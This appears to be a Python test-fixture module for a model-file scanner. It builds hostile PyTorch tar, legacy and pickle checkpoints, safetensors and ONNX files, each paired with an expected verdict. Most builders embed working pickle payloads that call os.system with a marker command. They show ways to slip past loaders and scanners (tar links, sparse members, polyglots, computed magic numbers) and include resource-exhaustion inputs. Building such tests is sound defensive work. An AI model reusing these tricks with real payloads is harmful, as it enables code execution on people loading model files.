"""Hostile files for the tar, legacy, bare-pickle, safetensors and ONNX readers.

Each builder is ``name(torch, marker) -> bytes``: the bytes of one file whose
payload (where it has one) creates ``marker`` when a real loader runs it.
:data:`SAMPLES` lists them for the corpus as ``(file name, builder, expected
verdict, finding code or None, what it is about)``; ``LIVE_WITH_TORCH`` names
the samples whose payload ``torch.load(path, weights_only=False)`` runs (the
tests prove it in a child process).
"""

from __future__ import annotations

import io
import json
import os
import pickle
import struct
import tarfile
from pathlib import Path

from support import Reduce, payload

MAGIC = 0x1950A86A20F9469CFC6C


def _str(s: str) -> bytes:
    raw = s.encode()
    return b"X" + struct.pack("<I", len(raw)) + raw


# -- tar ---------------------------------------------------------------------------------------
EMPTY_STORAGES = pickle.dumps(0, protocol=2) + pickle.dumps([], protocol=2)
EMPTY_TENSORS = pickle.dumps(0, protocol=2)


def tar_bytes(members, fmt=tarfile.GNU_FORMAT) -> bytes:
    """``members``: ``(name, data)`` for files, ``(name, ("hard"|"sym", target))`` for links."""
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=fmt) as tar:
        for name, data in members:
            info = tarfile.TarInfo(name)
            if isinstance(data, tuple):
                info.type = tarfile.LNKTYPE if data[0] == "hard" else tarfile.SYMTYPE
                info.linkname = data[1]
                tar.addfile(info)
            else:
                info.size = len(data)
                tar.addfile(info, io.BytesIO(data))
    return out.getvalue()


def _checksum(block: bytearray) -> None:
    block[148:156] = b" " * 8
    block[148:156] = b"%06o\0 " % sum(block)


def tar_pickle_hard_link(torch, marker: Path) -> bytes:
    """``pickle`` is a hard link to a member holding the payload: extractfile follows it."""
    return tar_bytes([("storages", EMPTY_STORAGES), ("tensors", EMPTY_TENSORS),
                      ("notes.txt", payload(marker)), ("pickle", ("hard", "notes.txt"))])


def tar_pickle_symlink(torch, marker: Path) -> bytes:
    """``pickle`` is a symbolic link inside the archive, to a member in a folder."""
    return tar_bytes([("storages", EMPTY_STORAGES), ("tensors", EMPTY_TENSORS),
                      ("docs/readme", payload(marker)), ("pickle", ("sym", "docs/readme"))])


def tar_storages_hard_link(torch, marker: Path) -> bytes:
    """``storages`` is a hard link: tar.extract copies the linked member's bytes."""
    return tar_bytes([("data.bin", payload(marker)), ("storages", ("hard", "data.bin")),
                      ("tensors", EMPTY_TENSORS), ("pickle", pickle.dumps({}, protocol=2))])


def tar_duplicate_pickle(torch, marker: Path) -> bytes:
    """Two ``pickle`` members: getmember returns the last one, the payload."""
    return tar_bytes([("storages", EMPTY_STORAGES), ("tensors", EMPTY_TENSORS),
                      ("pickle", pickle.dumps({"w": 1}, protocol=2)),
                      ("pickle", payload(marker))])


def tar_named_like_npy(torch, marker: Path) -> bytes:
    """A legacy torch tar whose first member is named so that the file starts with numpy's
    magic (its version byte wrong): torch.load reads the tar, the npy reader refuses it."""
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=tarfile.USTAR_FORMAT,
                      encoding="latin-1") as tar:
        for name, data in (("\x93NUMPY\x09\x00notes", b"x"), ("storages", EMPTY_STORAGES),
                           ("tensors", EMPTY_TENSORS), ("pickle", payload(marker))):
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    raw = out.getvalue()
    assert raw.startswith(b"\x93NUMPY\x09")
    return raw


def tar_v7(torch, marker: Path) -> bytes:
    """A V7 tar (no "ustar" magic): Python's tarfile, so torch, reads it all the same."""
    raw = bytearray(tar_bytes([("storages", EMPTY_STORAGES), ("tensors", EMPTY_TENSORS),
                               ("pickle", payload(marker))], fmt=tarfile.USTAR_FORMAT))
    pos = 0
    while pos + 512 <= len(raw) and raw[pos:pos + 512] != bytes(512):
        block = raw[pos:pos + 512]
        size = int(bytes(block[124:136]).strip(b"\0 ") or b"0", 8)
        block[257:265] = bytes(8)  # magic and version
        _checksum(block)
        raw[pos:pos + 512] = block
        pos += 512 + -(-size // 512) * 512
    return bytes(raw)


def tar_sparse_pickle(torch, marker: Path) -> bytes:
    """``pickle`` is a GNU sparse file: its stored bytes read as one pickle, the file
    tarfile rebuilds (with a hole of zeros) as another, which runs the payload."""
    evil = payload(marker)
    hole = 64
    prefix = b"\x80\x02B" + struct.pack("<I", hole)  # BINBYTES swallows the hole
    stored = prefix + b"0" + evil  # POP the bytes, then the payload
    info = tarfile.TarInfo("pickle")
    info.size = len(stored)
    block = bytearray(info.tobuf(tarfile.GNU_FORMAT))
    block[156:157] = tarfile.GNUTYPE_SPARSE
    block[386:398] = b"%011o\0" % 0
    block[398:410] = b"%011o\0" % len(prefix)
    block[410:422] = b"%011o\0" % (len(prefix) + hole)
    block[422:434] = b"%011o\0" % (len(stored) - len(prefix))
    block[482] = 0
    block[483:495] = b"%011o\0" % (len(stored) + hole)
    _checksum(block)
    head = tar_bytes([("storages", EMPTY_STORAGES), ("tensors", EMPTY_TENSORS)])
    head = head[:head.rindex(b"tensors") + 512 + 512]  # drop the end-of-archive blocks
    return head + bytes(block) + stored + bytes(-len(stored) % 512) + bytes(1024)


def tar_storages_link_outside(torch, marker: Path) -> bytes:
    """``storages`` is a symbolic link to a file outside the archive (written beside the
    marker): torch extracts the link and opens it, so that file's pickle runs."""
    outside = marker.with_name(marker.name + ".outside")
    outside.write_bytes(payload(marker))
    return tar_bytes([("storages", ("sym", str(outside))), ("tensors", EMPTY_TENSORS),
                      ("pickle", pickle.dumps({}, protocol=2))])


def tar_falls_back_to_pickle(torch, marker: Path) -> bytes:
    """A tar header whose name starts a pickle, and a member that runs past the end: the
    TarError makes torch read the whole file as a pickle stream, which runs the payload
    stored as the first member's data."""
    evil = payload(marker)
    raw = bytearray(tar_bytes([("A", evil), ("storages", b"x" * 2000)],
                              fmt=tarfile.USTAR_FORMAT))
    name = b"\x80\x02B" + struct.pack("<I", 512 - 7)  # BINBYTES over the rest of the header
    raw[0:100] = name + bytes(100 - len(name))
    block = raw[0:512]
    _checksum(block)
    raw[0:512] = block
    first = 512 + -(-len(evil) // 512) * 512
    return bytes(raw[:first + 512 + 1000])  # storages cut short


def tar_pax_digits(torch, marker: Path) -> bytes:
    """A pax record of 200,000 digits: Python < 3.11.10 parses it in quadratic time."""
    body = b"9" * 200_000
    info = tarfile.TarInfo("././@PaxHeader")
    info.type = tarfile.XHDTYPE
    info.size = len(body)
    return (info.tobuf(tarfile.USTAR_FORMAT) + body + bytes(-len(body) % 512)
            + tar_bytes([("storages", EMPTY_STORAGES), ("pickle", payload(marker))]))


def _quiet_payload(marker: Path) -> bytes:
    """``os.system("touch marker")``, its result dropped, then ``[]``: a payload that also
    passes for the (empty) list of storage views, so torch.load carries on without error."""
    cmd = f"touch {marker}".encode()
    return (b"\x80\x02cos\nsystem\n(X" + struct.pack("<I", len(cmd)) + cmd + b"tR0].")


def _one_storage_then(torch, stype: bytes, numel: int, marker: Path) -> bytes:
    """A ``storages`` member of one record of type ``stype`` (pickled) claiming ``numel``
    elements, no data, then the quiet payload; an empty tensors member and a clean object."""
    record = (b"\x80\x02(X\x01\x00\x00\x000X\x03\x00\x00\x00cpu" + stype + b"t.")
    storages = pickle.dumps(1, protocol=2) + record + struct.pack("<q", numel)
    return tar_bytes([("storages", storages + _quiet_payload(marker)),
                      ("tensors", EMPTY_TENSORS), ("pickle", pickle.dumps({"a": 1}, protocol=2))])


def tar_storage_size_overflow(torch, marker: Path) -> bytes:
    """2**62 four-byte elements: torch multiplies in 64 bits, reads 0 bytes of data and
    unpickles the payload as the storage views; Python's integers put it past the end."""
    return _one_storage_then(torch, b"ctorch\nFloatStorage\n", 2**62, marker)


def tar_storage_type_instance(torch, marker: Path) -> bytes:
    """The storage type is ``TypedStorage()``, an object: torch takes the element size of its
    dtype (float32, 4 bytes) and skips 4 bytes of data where a reader without it skips
    fewer. Here a decoy empty list of views lies in those 4 bytes' place for a 1-byte
    reading; torch reads past it, to the payload."""
    stype = b"ctorch.storage\nTypedStorage\n)R"
    storages = (pickle.dumps(1, protocol=2)
                + b"\x80\x02(X\x01\x00\x00\x000X\x03\x00\x00\x00cpu" + stype + b"t."
                + struct.pack("<q", 1) + b"]..." + _quiet_payload(marker))
    return tar_bytes([("storages", storages), ("tensors", EMPTY_TENSORS),
                      ("pickle", pickle.dumps({"a": 1}, protocol=2))])


def tar_computed_record_count(torch, marker: Path) -> bytes:
    """The count of storages is ``torch.LongTensor([1])``, computed when the file loads;
    torch reads one record, its data, then the payload as the views."""
    count = b"\x80\x02ctorch\nLongTensor\n(]K\x01atR."
    record = b"\x80\x02(X\x01\x00\x00\x000X\x03\x00\x00\x00cpuctorch\nFloatStorage\nt."
    storages = count + record + struct.pack("<q", 0) + _quiet_payload(marker)
    return tar_bytes([("storages", storages), ("tensors", EMPTY_TENSORS),
                      ("pickle", pickle.dumps({"a": 1}, protocol=2))])


# -- bare pickles and the legacy stream -----------------------------------------------------
def pickle_odd_first_opcode(torch, marker: Path) -> bytes:
    """BININT2, POP, then the payload: no PROTO and no protocol-0 opcode comes first."""
    return b"M\x01\x000" + payload(marker)


def _legacy(torch, obj) -> bytes:
    buf = io.BytesIO()
    torch.save(obj, buf, _use_new_zipfile_serialization=False)
    return buf.getvalue()


def legacy_magic_after_pop(torch, marker: Path) -> bytes:
    """A legacy file whose magic number is written after BININT1/POP: torch checks only
    the value, then unpickles the object with the payload."""
    raw = _legacy(torch, {"w": torch.ones(2), "hook": Reduce(os.system, f"touch {marker}")})
    assert raw.startswith(b"\x80\x02\x8a\x0a")
    return b"K\x070" + raw


def legacy_computed_magic(torch, marker: Path) -> bytes:
    """The magic number computed by ``builtins.int('0x…', 16)`` when loaded."""
    raw = _legacy(torch, {"w": torch.ones(2), "hook": Reduce(os.system, f"touch {marker}")})
    first = pickle.dumps(MAGIC, protocol=2)
    assert raw.startswith(first)
    computed = (b"\x80\x02cbuiltins\nint\n(" + _str(hex(MAGIC)) + b"K\x10tR.")
    return computed + raw[len(first):]


def load_from_bytes_plain_pickle(torch, marker: Path) -> bytes:
    """``torch.storage._load_from_bytes`` of bytes that are no checkpoint at all: torch.load
    unpickles them as the legacy magic number, which runs the payload."""
    inner = payload(marker)
    return (b"\x80\x02ctorch.storage\n_load_from_bytes\nC" + bytes([len(inner)]) + inner
            + b"\x85R.")


def _legacy_module_pid(length: int, marker: Path) -> bytes:
    """A legacy file whose persistent id ('module', cls, ...) has ``length`` items: torch
    returns cls for any length, so REDUCE calls it on the payload."""
    header = (pickle.dumps(MAGIC, protocol=2) + pickle.dumps(1001, protocol=2)
              + pickle.dumps({"protocol_version": 1001, "little_endian": True,
                              "type_sizes": {"short": 2, "int": 4, "long": 4}}, protocol=2))
    run = b"ctorch.utils.collect_env\nrun\n"
    pid = b"(" + _str("module") + run + b"N" * (length - 2) + b"t"
    body = b"\x80\x02" + pid + b"Q" + _str(f"touch {marker}") + b"\x85R."
    return header + body + pickle.dumps([], protocol=2)


def legacy_module_pid_3(torch, marker: Path) -> bytes:
    return _legacy_module_pid(3, marker)


def legacy_module_pid_5(torch, marker: Path) -> bytes:
    return _legacy_module_pid(5, marker)


def legacy_huge_integer(torch, marker: Path, tensors: int = 10_000) -> bytes:
    """A legacy file whose storage size and every tensor's shape are one memoized 1 MB
    integer, used by 10,000 tensors, beside a payload."""
    big = b"\x8b" + struct.pack("<i", 1 << 20) + b"\x01" * (1 << 20)  # LONG4
    pid = (b"(" + _str("storage") + b"ctorch\nFloatStorage\n" + _str("0") + _str("cpu")
           + big + b"r\x00\x00\x00\x00" + b"Nt" + b"r\x01\x00\x00\x00")
    rebuild = b"ctorch._utils\n_rebuild_tensor_v2\nr\x02\x00\x00\x00"
    first = (rebuild + b"(" + pid + b"QK\x00" + b"j\x00\x00\x00\x00\x85r\x03\x00\x00\x00"
             + b"K\x01\x85r\x04\x00\x00\x00\x89" + b"ccollections\nOrderedDict\n)R"
             + b"r\x05\x00\x00\x00tR")
    again = (b"j\x02\x00\x00\x00(j\x01\x00\x00\x00QK\x00j\x03\x00\x00\x00j\x04\x00\x00\x00"
             b"\x89j\x05\x00\x00\x00tR")
    main = (b"\x80\x02](" + first + again * (tensors - 1) + b"cposix\nsystem\n"
            + _str(f"touch {marker}") + b"\x85Re.")
    return (pickle.dumps(MAGIC, protocol=2) + pickle.dumps(1001, protocol=2)
            + pickle.dumps({"little_endian": True}, protocol=2) + main
            + pickle.dumps(["0"], protocol=2) + struct.pack("<q", 4) + bytes(16))


# -- safetensors -------------------------------------------------------------------------------
def _safetensors(header: dict | bytes, data: bytes = b"") -> bytes:
    raw = header if isinstance(header, bytes) else json.dumps(header).encode()
    raw += b" " * (-len(raw) % 8)
    return struct.pack("<Q", len(raw)) + raw + data


def safetensors_150000_dims(torch, marker: Path) -> bytes:
    """One tensor with 150,000 dimensions of 2**63-1: multiplying them takes minutes."""
    return _safetensors({"t": {"dtype": "F32", "shape": [(1 << 63) - 1] * 150_000,
                               "data_offsets": [0, 4]}}, bytes(4))


def safetensors_overflowing_dims(torch, marker: Path) -> bytes:
    """1,000 dimensions of 2**32: the safetensors library refuses the overflowing product."""
    return _safetensors({"t": {"dtype": "F32", "shape": [1 << 32] * 1000,
                               "data_offsets": [0, 4]}}, bytes(4))


def safetensors_many_tensors(torch, marker: Path, count: int = 1_440_000) -> bytes:
    """A header of nearly 100,000,000 bytes (the library's limit) listing 1.44 million
    one-byte tensors."""
    parts = b",".join(b'"%d":{"dtype":"U8","shape":[1],"data_offsets":[%d,%d]}' % (i, i, i + 1)
                      for i in range(count))
    return _safetensors(b"{" + parts + b"}", bytes(count))


# -- ONNX --------------------------------------------------------------------------------------
def _varint(v: int) -> bytes:
    out = bytearray()
    while True:
        b = v & 0x7F
        v >>= 7
        out.append(b | (0x80 if v else 0))
        if not v:
            return bytes(out)


def _field(number: int, payload_: bytes) -> bytes:
    return _varint(number << 3 | 2) + _varint(len(payload_)) + payload_


def onnx_model(tensor: bytes) -> bytes:
    """A ModelProto with one initializer (``tensor``: a serialized TensorProto)."""
    graph = _field(2, b"g") + _field(5, tensor)
    opset = _field(1, b"") + _varint(2 << 3) + _varint(17)
    return _varint(1 << 3) + _varint(8) + _field(7, graph) + _field(8, opset)


def onnx_150000_dims(torch, marker: Path) -> bytes:
    """An initializer with 150,000 dimensions of 2**62, one field each."""
    dims = (_varint(1 << 3) + _varint(1 << 62)) * 150_000
    return onnx_model(dims + _varint(2 << 3) + _varint(1) + _field(8, b"w")
                      + _field(9, bytes(4)))


def onnx_packed_dims(torch, marker: Path, count: int = 100_000_000) -> bytes:
    """An initializer with 100 million packed dimensions of 1 (100 MB)."""
    return onnx_model(_field(1, b"\x01" * count) + _varint(2 << 3) + _varint(1)
                      + _field(8, b"w") + _field(9, bytes(4)))


SAMPLES = [
    ("tar_storage_size_overflow.pt", tar_storage_size_overflow, "dangerous",
     "storage-size-overflow", "pre-0.4 tar: a storage size that wraps in torch's 64 bits"),
    ("tar_storage_type_instance.pt", tar_storage_type_instance, "dangerous",
     "unfollowable-records", "pre-0.4 tar: the storage type is an object, its size unknown"),
    ("tar_computed_record_count.pt", tar_computed_record_count, "dangerous",
     "unfollowable-records", "pre-0.4 tar: the number of storages is computed at load"),
    ("tar_pickle_hard_link.pt", tar_pickle_hard_link, "dangerous", "tar-link",
     "pre-0.4 tar: 'pickle' is a hard link to a payload member (extractfile follows it)"),
    ("tar_pickle_symlink.pt", tar_pickle_symlink, "dangerous", "tar-link",
     "pre-0.4 tar: 'pickle' is a symbolic link to a payload member in a folder"),
    ("tar_storages_hard_link.pt", tar_storages_hard_link, "dangerous", "tar-link",
     "pre-0.4 tar: 'storages' is a hard link to a payload member"),
    ("tar_duplicate_pickle.pt", tar_duplicate_pickle, "dangerous", "duplicate-member",
     "pre-0.4 tar: two 'pickle' members, torch runs the last"),
    ("tar_named_like_npy.pt", tar_named_like_npy, "dangerous", "polyglot",
     "pre-0.4 tar whose first member's name starts with numpy's magic"),
    ("tar_v7.pt", tar_v7, "dangerous", "dangerous-import",
     "pre-0.4 checkpoint in a V7 tar (no ustar magic)"),
    ("tar_sparse_pickle.pt", tar_sparse_pickle, "dangerous", "tar-sparse-member",
     "pre-0.4 tar: 'pickle' is a GNU sparse file whose holes change the stream"),
    ("tar_storages_link_outside.pt", tar_storages_link_outside, "dangerous", "tar-link",
     "pre-0.4 tar: 'storages' is a symbolic link to a file outside the archive"),
    ("tar_falls_back_to_pickle.pt", tar_falls_back_to_pickle, "dangerous", "tar-fallback",
     "a tar header and a pickle at once: a TarError sends torch to the pickle"),
    ("tar_pax_digits.pt", tar_pax_digits, "dangerous", None,
     "a pax record of 200,000 digits (quadratic in Python's tarfile): refused in bounded time"),
    ("pickle_odd_first_opcode.pkl", pickle_odd_first_opcode, "dangerous", "dangerous-import",
     "a bare pickle that starts with BININT2/POP instead of PROTO"),
    ("legacy_magic_after_pop.pt", legacy_magic_after_pop, "dangerous", "dangerous-import",
     "legacy format whose magic number follows BININT1/POP"),
    ("legacy_computed_magic.pt", legacy_computed_magic, "dangerous", "computed-header",
     "legacy format whose magic number is computed by builtins.int"),
    ("load_from_bytes_plain_pickle.pkl", load_from_bytes_plain_pickle, "dangerous",
     "dangerous-import", "_load_from_bytes of a plain payload pickle (not a checkpoint)"),
    ("legacy_module_pid_3.pt", legacy_module_pid_3, "dangerous", "dangerous-call",
     "legacy format: a ('module', cls, None) persistent id gives cls, which REDUCE calls"),
    ("legacy_module_pid_5.pt", legacy_module_pid_5, "dangerous", "dangerous-call",
     "legacy format: the same with a 5-item persistent id"),
    ("legacy_huge_integer.pt", legacy_huge_integer, "dangerous", "dangerous-import",
     "legacy format: a 1 MB integer as storage size and shape of 10,000 tensors"),
    ("safetensors_150000_dims.safetensors", safetensors_150000_dims, "refused", None,
     "150,000 dimensions of 2**63-1 in a safetensors header"),
    ("safetensors_overflowing_dims.safetensors", safetensors_overflowing_dims, "refused", None,
     "dimensions whose product overflows 64 bits"),
    ("safetensors_many_tensors.safetensors", safetensors_many_tensors, "refused", None,
     "a 99 MB safetensors header with 1.44 million tensors"),
]

# the samples whose payload torch.load(path, weights_only=False) runs
LIVE_WITH_TORCH = {"tar_named_like_npy.pt", "tar_storage_size_overflow.pt",
                   "tar_storage_type_instance.pt",
                   "tar_computed_record_count.pt", "tar_pickle_hard_link.pt",
                   "tar_pickle_symlink.pt",
                   "tar_storages_hard_link.pt", "tar_duplicate_pickle.pt", "tar_v7.pt",
                   "tar_sparse_pickle.pt", "tar_storages_link_outside.pt",
                   "tar_falls_back_to_pickle.pt", "pickle_odd_first_opcode.pkl",
                   "legacy_magic_after_pop.pt", "legacy_computed_magic.pt",
                   "legacy_module_pid_3.pt", "legacy_module_pid_5.pt"}
